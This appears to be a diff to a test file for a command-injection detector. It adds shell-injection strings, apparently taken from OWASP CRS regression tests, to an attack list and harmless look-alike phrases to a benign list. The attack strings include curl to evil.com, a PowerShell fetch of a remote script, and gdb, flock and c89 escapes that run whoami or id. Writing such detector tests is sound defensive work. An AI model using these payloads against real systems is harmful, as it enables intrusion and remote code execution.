@@ -37,6 +37,17 @@ const ATTACKS = [
   "process.mainModule.require('child_process').execSync('id')",
   '#{process.binding(foo).spawn(foo2)}',
   'process["mainModule"]',
+  // From the OWASP CRS regression tests (932xxx), once missed:
+  'time ifconfig',
+  'nohup ifconfig',
+  'strace ifconfig',
+  ";'curl' http://evil.com",
+  ';"curl" http://evil.com',
+  ';gdb -nx -ex \\!whoami -ex quit',
+  ';flock -u / whoami',
+  ';c89 -wrapper sh,-c,id .',
+  ';iwr http://example.com/path/file.ps1',
+  ';gcc10.1 -o /tmp/x x.c',
 ];
 const BENIGN = [
   'Tom & Jerry',
@@ -50,6 +61,11 @@ const BENIGN = [
   'Use git log | grep fix',
   'setup.exe is in the downloads folder',
   'The process binding the two teams is slow',
+  'Time management tips',
+  'nice to meet you; time flies',
+  'sudo make me a sandwich',
+  "It's 'curl' you want, not wget",
+  'Time ps: bring the slides',
   'Our hiring process: main module first, then a call',
   'import React from \'react\';\nexport default function App() { return <div className="app">Hello</div>; }',
 ];
